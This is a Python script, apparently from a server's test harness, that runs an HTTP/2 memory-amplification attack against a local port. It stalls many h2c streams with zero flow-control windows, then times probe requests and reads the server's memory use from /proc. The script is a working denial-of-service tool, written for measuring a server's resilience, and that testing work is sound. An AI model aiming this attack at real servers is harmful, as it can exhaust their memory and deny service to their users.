"""The HTTP/2 memory amplifier, as an attacker runs it: each of CONNECTIONS h2c connections sets
every stream's window to 0, asks for PATH (a large answer) on STREAMS streams, and never opens a
window. Meanwhile, from the moment the last request is sent, PROBES requests for /csp/hello on
fresh HTTP/1.1 connections, 50 ms apart, are timed; SETTLE seconds after it, while every
connection still holds its streams, the resident size of each PID given is read. Prints one JSON object: {"rss_kib": {pid: kib}, "hello_ms": [...], "statuses": [...]}.

Usage: hold_answers.py PORT CONNECTIONS STREAMS SETTLE PROBES PATH PID..."""
import argparse
import json
import os
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2_frames as h2  # noqa: E402  (its Conn: frames out, frames in)


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return -1


def hello(port):
    began = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(b"GET /csp/hello HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        answer = b""
        while True:
            got = s.recv(65536)
            if not got:
                break
            answer += got
    elapsed = (time.monotonic() - began) * 1000
    status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0
    return elapsed, status


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("streams", type=int)
    parser.add_argument("settle", type=float)
    parser.add_argument("probes", type=int)
    parser.add_argument("path")
    parser.add_argument("pids", type=int, nargs="*")
    args = parser.parse_args()
    h2.ARGS = argparse.Namespace(port=args.port, tls=False)
    conns = h2.stalled_connections(args.connections, args.streams, args.path)
    # The server reads, routes and answers what it will, meanwhile; its frames are left unread.
    sent = time.monotonic()
    times, statuses = [], []
    for _ in range(args.probes):
        elapsed, status = hello(args.port)
        times.append(round(elapsed, 2))
        statuses.append(status)
        time.sleep(0.05)
    time.sleep(max(0.0, args.settle - (time.monotonic() - sent)))
    rss = {str(pid): rss_kib(pid) for pid in args.pids}
    print(json.dumps({"rss_kib": rss, "hello_ms": times, "statuses": statuses}))
    for c in conns:
        c.sock.close()


if __name__ == "__main__":
    main()
